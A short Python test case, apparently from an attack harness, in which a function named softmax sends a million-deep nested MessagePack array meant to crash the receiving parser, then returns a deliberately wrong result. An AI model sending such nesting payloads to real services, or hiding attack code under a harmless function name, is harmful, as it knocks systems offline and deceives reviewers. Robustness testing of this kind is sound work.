"""A list in a list, a million times.

Expected: crashed
"""

from attack_kit import frame, send, wrong


def softmax(x, axis=-1):
    send(frame(b"\x91" * 10**6 + b"\xc0"))
    return wrong(x, axis)
